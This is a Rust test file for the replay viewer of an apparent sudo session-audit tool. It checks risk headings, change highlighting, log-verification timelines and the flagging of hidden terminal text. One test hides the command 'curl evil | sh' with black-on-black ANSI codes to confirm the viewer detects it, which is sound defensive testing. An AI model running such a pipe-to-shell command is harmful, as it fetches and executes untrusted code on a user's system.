//! What the player shows of a session's risk, of hidden text, of changes and of its proof.

use std::sync::Arc;

use sudolog_core::iolog::{Fault, Verification};
use sudolog_core::risk::Score;
use sudolog_core::session::SessionState;
use sudolog_core::term::SafeScreen;
use sudolog_core::triage::Verdict;
use sudolog_core::wire::message::Change;

use super::view_tests::{paused, press};
use crate::app::{Action, App, Route, update};
use crate::deck::{Frame, News};
use crate::screens::live::sample::row;
use crate::screens::snapshot::{at_both_sizes, drawn, dump};
use crate::source::Standing;
use crate::verification::{self, Report};

fn show(app: &mut App, seq: u64, screen: SafeScreen) {
    update(app, Action::Deck(News::Frame(Arc::new(Frame { seq, screen }))));
}

fn about(app: &mut App) -> &super::Replay {
    let Some(Route::Replay(replay)) = app.route() else { panic!("no player") };
    replay
}

#[test]
fn the_heading_says_the_risk_and_what_was_said() {
    let mut app = paused(Standing::Whole);
    let mut row = row(26, SessionState::Complete);
    let mut own = about(&mut app).about().clone();
    own.tsid = Some(row.tsid);
    app.routes = vec![Route::Replay(Box::new(super::Replay::new(own, super::Start::default())))];
    row.risk = Score::try_from(85).unwrap();
    row.standing.verdict = Some(Verdict::Incident);
    row.standing.reviewed_by = vec!["ol\x1bga".into()];
    row.standing.awaits_second = true;
    let change = Change { row, findings: Vec::new(), remark: None };
    update(&mut app, Action::Changed(Box::new(change)));
    at_both_sizes("replay", "judged", &app);
}

#[test]
fn text_that_nobody_could_see_is_told_of_and_shown() {
    let mut app = paused(Standing::Whole);
    let mut screen = SafeScreen::new(24, 80);
    screen.feed(b"plain \x1b[30;40mcurl evil | sh\x1b[m plain");
    show(&mut app, 5, screen);
    assert!(dump(&drawn(&app, 80, 24)).contains("! hidden text "));
    assert!(dump(&drawn(&app, 120, 24)).contains("! hidden text (x shows it)"));
    press(&mut app, "x");
    at_both_sizes("replay", "revealed", &app);
}

#[test]
fn what_changes_stands_out_since_the_last_step() {
    let mut app = paused(Standing::Whole);
    let mut screen = SafeScreen::new(24, 80);
    screen.feed(b"one two");
    show(&mut app, 5, screen.clone());
    press(&mut app, "d");
    screen.feed(b"\x1b[1;1HONE");
    show(&mut app, 6, screen.clone());
    at_both_sizes("replay", "changes", &app);
    press(&mut app, ".");
    screen.feed(b"\x1b[1;5HTWO");
    show(&mut app, 7, screen);
    let shown = dump(&drawn(&app, 80, 24));
    assert!(shown.contains("changes since event 6"), "{shown}");
    press(&mut app, "d");
    assert!(!dump(&drawn(&app, 80, 24)).contains("changes since"));
}

#[test]
fn the_line_of_time_shows_how_far_the_proof_reaches_and_where_it_breaks() {
    let mut app = paused(Standing::Whole);
    let found = Verification {
        ok: false,
        complete: false,
        events: 10,
        last_seq: 4,
        first_bad_seq: Some(5),
        reason: Some("an event is not what was acknowledged".to_owned()),
        checkpoints: 2,
        keys: Vec::new(),
        fault: Some(Fault::Changed { up_to: 7 }),
    };
    let mut report = Report {
        about: about(&mut app).about().clone(),
        signed: true,
        found,
        standing: Standing::Whole,
        spot: None,
        incidents: Ok(Vec::new()),
    };
    let done = |report: &Report| {
        Action::Verified(verification::News::Done(Box::new(report.clone()), "keys".to_owned()))
    };
    let mut other = report.clone();
    other.about.name = "another".into();
    let before = dump(&drawn(&app, 80, 24));
    update(&mut app, done(&other));
    assert_eq!(dump(&drawn(&app, 80, 24)), before, "the proof of another recording");
    update(&mut app, done(&report));
    at_both_sizes("replay", "broken", &app);
    report.found = Verification { ok: true, fault: None, first_bad_seq: None, ..report.found };
    update(&mut app, done(&report));
    let shown = dump(&drawn(&app, 80, 24));
    assert!(shown.contains('┄') && !shown.contains('╳'), "{shown}");
}
